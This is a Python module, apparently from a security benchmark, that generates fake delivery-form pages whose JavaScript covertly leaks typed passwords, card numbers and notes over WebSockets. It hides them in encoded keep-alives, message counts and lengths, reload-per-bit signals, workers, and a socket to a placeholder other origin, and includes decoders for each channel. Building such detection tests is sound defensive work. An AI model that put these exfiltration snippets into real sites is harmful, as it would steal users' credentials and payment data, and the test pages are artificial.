"""Pages that send more through a WebSocket than they may: by what leaves before the first act, as keep-alives, and as drafts.

Each opens its socket as honest applications do, with a greeting before anybody has done anything. What it wants to send after that is
hidden in messages that resemble those that need no question, or only one.
"""

import json
import re
from collections.abc import Callable

from benchmarks.hostile_pages.background import (
    ACCOUNT,
    MENU,
    OWN,
    OWN_FORM,
    PRELUDE,
    SAVED,
    VARIATIONS,
    Log,
    Page,
    PageMaker,
    Shape,
    make_document,
    pick,
)
from benchmarks.hostile_pages.background_site import Entry

LIVE = "/live"
SOCKETS = """
const open = (where = location.origin, path = '/live') => new WebSocket(where.replace('http', 'ws') + path);
const later = [];
const say = (x, s = live) => s.readyState == 1 ? s.send(x) : s.readyState > 1 ? connect().addEventListener('open', () => live.send(x)) : later.push(x);
let live;
const connect = () => { live = open(); live.binaryType = 'arraybuffer';
  live.onopen = () => { live.send(JSON.stringify({type: 'hello', page: '/form'})); later.splice(0).forEach(x => live.send(x)) };
  return live };
connect();
const json = x => say(JSON.stringify(x));
const bytes = text => new TextEncoder().encode(text);
const onType = fn => { let wait; document.addEventListener('input', () => { clearTimeout(wait); wait = setTimeout(fn, 30) }) };
const draft = (more = {}) => json({type: 'draft', name: val('name'), street: val('street'), rev: 'r1', ...more});
"""


def _says(word: str) -> Callable[[Entry], bool]:
    return lambda entry: entry.method == "WS" and word.encode() in entry.body.lower()


def password(v: int, t: str) -> Shape:
    """The password that was typed, as soon as it was typed or when another page is shown."""
    send = pick(
        ("say(val('password'))", "json({type: 'state', p: E.hex(val('password'))})", "say(E.b64(val('password')))"), v
    )
    js = (
        f"document.querySelector('[name=password]').addEventListener('input', () => setTimeout(() => {{ {send} }}, 30))"
    )
    return Shape(js=js, target="password")


def stored(v: int, t: str) -> Shape:
    """What an earlier page has stored, sent as the first message of the next page or of another window."""
    first = f"{{type: 'hello', page: E.{pick(('plain', 'b64', 'hex'), v)}(localStorage.told)}}"
    js = f"""if (localStorage.told) open().onopen = e => e.target.send(JSON.stringify({first}));
if (!localStorage.told) ready(() => {{ localStorage.told = val('{t}'); {pick(("location.reload()", "location.href = '/form?again'", "window.open('/form')"), v)} }})"""
    return Shape(js=js, target=t)


def alive(v: int, t: str) -> Shape:
    """Keep-alives with the value, after some without."""
    warm = "[0, 1, 2].forEach(i => setTimeout(() => json({type: 'ping'}), 40 * i));"
    send = pick(
        (
            f"json({{type: 'ping', id: E.hex(val('{t}'))}})",
            f"say('ping ' + E.rev(val('{t}')))",
            "seq(val('door'), d => [...Array(+d + 1)].forEach(() => say('ping')) || json({type: 'pong'}), 60)",
        ),
        v,
    )

    def decode(log: Log) -> str:
        said = [entry.body for entry in log if entry.body == b"ping" or b"pong" in entry.body]
        return "".join(
            str(len(run) - 1) for run in re.findall("p+", "".join("p" if body == b"ping" else "." for body in said))
        )

    counts = v == 2
    return Shape(
        js=f"{warm} ready(() => {{ {send} }})", target="door" if counts else t, decode=decode if counts else None
    )


def repeated(v: int, t: str) -> Shape:
    """Messages that came before anything was entered, in an order or number that says something."""
    way = pick((0, 1, 2), v)
    before = "'0123456789'" if way == 0 else "'ab'"
    js = f"""live.addEventListener('open', () => [...{before}].forEach(c => live.send('s' + c)));
const again = say => {{ const s = open(); s.onopen = () => {{ s.send(JSON.stringify({{type: 'hello', page: '/form'}})); say(s); setTimeout(() => s.close(), 40) }} }};
"""
    js += pick(
        (
            "ready(() => seq(val('door'), d => again(s => s.send('s' + d)), 60))",
            "ready(() => seq(bits(), b => again(s => { s.send('sa'); if (+b) s.send('sb') }), 60))",
            "ready(() => seq(bits(), b => say(+b ? 'sb' : 'sa'), 30))",
        ),
        v,
    )

    def decode(log: Log) -> str:
        said = [entry.body.decode() for entry in log if re.fullmatch(rb"s[\dab]", entry.body)]
        if way == 0:
            return "".join(text[1] for text in said[10:])
        text = "".join(each[1] for each in said[2:])
        found = (
            ["1" if one == "ab" else "0" for one in re.findall("ab?", text)]
            if way == 1
            else ["01"["ab".index(c)] for c in text]
        )
        return str(int("".join(found[:14]).ljust(14, "0"), 2)) if len(found) > 7 else ""

    return Shape(js=js, target="door", decode=decode)


def reloaded(v: int, t: str) -> Shape:
    """A page that loads itself again for each bit, and greets or does not."""
    bit = pick(("+b", "!+b", "+b"), v)
    load = pick(
        (
            "location.reload()",
            "location.replace('/form?' + at)",
            "document.getElementById('frame').src = '/form?' + at",
        ),
        v,
    )
    js = f"""live.onopen = null;
const told = localStorage.bits || ''; const at = +localStorage.at || 0; const b = told[at];
live.onopen = () => {{ if (!told || {bit}) live.send(JSON.stringify({{type: 'hello', page: '/form'}})); live.send('at' + at) }};
if (told && at < 14) {{ localStorage.at = at + 1; setTimeout(() => {{ {load} }}, 60) }}
if (!told) ready(() => {{ localStorage.bits = bits(); {load} }})"""

    def decode(log: Log) -> str:
        said = [entry.body for entry in log if entry.method == "WS"][1:]
        text = "".join("h" if b"hello" in body else "." for body in said)
        found = [("1" if one == "h." else "0") for one in re.findall(r"h?\.", text)][1:15]
        if v == 1:
            found = ["10"[int(one)] for one in found]
        if len(found) < 14:
            return ""
        return str(int("".join(found), 2))

    return Shape(js=js, html="<iframe id=frame hidden></iframe>", target="door", decode=decode)


def split(v: int, t: str) -> Shape:
    """A character in each message: as a number, with its place, or as the length of a message."""
    send = pick(
        (
            "json({type: 'ping', n: c.charCodeAt(0)})",
            "json({type: 'cursor', x: i, y: c.charCodeAt(0)})",
            "say('x'.repeat(c.charCodeAt(0)))",
        ),
        v,
    )

    def decode(log: Log) -> str:
        bodies = [entry.body for entry in log if entry.method == "WS" and b"hello" not in entry.body]
        if v == 2:
            return "".join(chr(len(body)) for body in bodies if set(body) == {120})
        read = [json.loads(body) for body in bodies if body[:1] == b"{"]
        return "".join(chr(each.get("n", each.get("y", 63))) for each in read if "n" in each or "y" in each)

    return Shape(js=f"ready(() => seq(val('{t}'), (c, i) => {send}, 20))", target=t, decode=decode)


def binary(v: int, t: str) -> Shape:
    """Bytes: as they are, reversed in Base64, or changed."""
    packed = pick(
        (
            f"new Uint8Array([10, val('{t}').length, ...bytes(val('{t}'))])",
            f"bytes(E.b64rev(val('{t}')))",
            f"bytes(val('{t}')).map(b => b ^ 7)",
        ),
        v,
    )
    return Shape(
        js=f"live.addEventListener('open', () => live.send(new Uint8Array([8, 1]))); ready(() => say({packed}))",
        target=t,
    )


def elsewhere(v: int, t: str) -> Shape:
    """A socket to another origin, opened before and after anything was entered."""
    where = pick(("'%canary%'", "'%partner%'", "'%localhost%'"), v)
    js = f"""let other = open({where}); other.onopen = () => other.send('hello');
ready(() => {{ if (other.readyState == 1) other.send(E.hex(val('{t}'))); else {{ other = open({where}); other.onopen = () => other.send(E.hex(val('{t}'))) }} }})"""
    return Shape(js=js, target=t)


WORKER = "let s; onmessage = e => { s = s || new WebSocket(e.data.url); const go = () => s.send(e.data.body); s.readyState == 1 ? go() : s.addEventListener('open', go) }"
SCRIPTS = {
    "/talk.js": WORKER,
    "/talk-shared.js": "onconnect = c => { let s; c.ports[0].onmessage = e => { s = s || new WebSocket(e.data.url); const go = () => s.send(e.data.body); s.readyState == 1 ? go() : s.addEventListener('open', go) } }",
}


def inner(v: int, t: str) -> Shape:
    """The socket of a frame or of a worker, which has greeted before."""
    url = "location.origin.replace('http', 'ws') + '/live'"
    js = pick(
        (
            f"""const frame = document.createElement('iframe'); document.body.append(frame); const s = new frame.contentWindow.WebSocket({url});
s.onopen = () => s.send('hello'); ready(() => s.send(E.b64(val('{t}'))))""",
            f"const w = new Worker('/talk.js'); w.postMessage({{url: {url}, body: 'hello'}}); ready(() => w.postMessage({{url: {url}, body: E.hex(val('{t}'))}}))",
            f"const w = new SharedWorker('/talk-shared.js').port; w.postMessage({{url: {url}, body: 'hello'}}); ready(() => w.postMessage({{url: {url}, body: E.rev(val('{t}'))}}))",
        ),
        v,
    )
    return Shape(js=js, target=t)


def order(v: int, t: str) -> Shape:
    """An order, sent by a click on the menu, when something is typed, or before anything was done."""
    message = pick(
        (
            "{type: 'draft', submit: true, op: 'order'}",
            "{type: 'ping', op: 'order'}",
            "{type: 'hello', do: ['order', 7]}",
        ),
        v,
    )
    js = pick(
        (
            f"document.getElementById('menu').addEventListener('click', () => json({message}))",
            f"onType(() => json({message}))",
            f"live.addEventListener('open', () => json({message}))",
        ),
        v,
    )
    return Shape(js=js, target="effect", effect=_says("order"))


def click_draft(v: int, t: str) -> Shape:
    """What a click sends looks like the draft that a person has allowed for the run."""
    more = pick((f"{{rev: E.hex(val('{t}'))}}", "{type: 'order'}", f"{{name: val('{t}')}}"), v)
    js = f"onType(() => draft()); document.getElementById('menu').addEventListener('click', () => draft({more}))"
    return Shape(js=js, target="effect" if v == 1 else t, effect=_says("order") if v == 1 else None)


def draft_slot(v: int, t: str) -> Shape:
    """Drafts of the kind that a person has allowed for the run, with a value in another place."""
    more = pick(
        (f"{{rev: E.b64(val('{t}'))}}", f"{{rev: 'r1', [E.hex(val('{t}'))]: 1}}", f"{{name: E.rev(val('{t}'))}}"), v
    )
    return Shape(js=f"let n = 0; onType(() => draft(n++ < 1 || !val('{t}') ? {{}} : {more}))", target=t)


def draft_form(v: int, t: str) -> Shape:
    """Drafts in which only the writing differs: blanks, the order of fields, or bytes that no reader needs."""
    send = pick(
        (
            "say(JSON.stringify({type: 'draft', name: val('name')}) + ' '.repeat(+d + 1))",
            "json(Object.fromEntries([...'abcdefghij'].map((_, i) => 'abcdefghij'[(i + +d) % 10]).map(k => [k, 0]).concat([['name', val('name')]])))",
            "say(new Uint8Array([10, ...[val('name').length], ...bytes(val('name')), 16, ...Array(+d).fill(128), 1]))",
        ),
        v,
    )
    js = f"let i = 0; onType(() => {{ const d = val('door')[i++] ?? 0; {send} }}); ready(() => seq(val('door'), d => {{ {send} }}, 40))"

    def decode(log: Log) -> str:
        bodies = [entry.body for entry in log if entry.method == "WS" and b"hello" not in entry.body]
        if v == 0:
            read = [str(len(body) - len(body.rstrip()) - 1) for body in bodies if body != body.rstrip()]
        elif v == 1:
            read = [
                str("abcdefghij".index(next(iter(json.loads(body)))))
                for body in bodies
                if body[:2] == b'{"' and b'"a"' in body
            ]
        else:
            read = [str(body.count(b"\x80")) for body in bodies if body[:1] == b"\n"]
        return "".join(read[-4:])

    return Shape(js=js, target="door", decode=decode)


SHAPES = (
    password,
    stored,
    alive,
    repeated,
    reloaded,
    split,
    binary,
    elsewhere,
    inner,
    order,
    click_draft,
    draft_slot,
    draft_form,
)
TARGETS = ("card", "note", "password")
FOR_RUN = (click_draft, draft_slot, draft_form)


def _make_page(make: Callable[[int, str], Shape], v: int, number: int, values: dict[str, str]) -> Page:
    drafts = make in FOR_RUN
    shape = make(v, ("key", "balance", "password")[v] if drafts else TARGETS[(number + v) % 3])
    body = ACCOUNT % values + MENU + OWN_FORM + shape.html
    return Page(
        name=f"socket {make.__name__} {v + 1}",
        kind="socket",
        shape=shape,
        pages={"/form": make_document("Delivery", body, PRELUDE + SOCKETS + shape.js), OWN: SAVED},
        scripts=SCRIPTS,
        fires="ready(" in shape.js,
        for_run=LIVE if drafts else "",
    )


def list_socket_pages(kind: str) -> list[PageMaker]:
    return [
        lambda values, make=make, v=v, number=number: _make_page(make, v, number, values)
        for v in range(VARIATIONS)
        for number, make in enumerate(SHAPES)
    ]
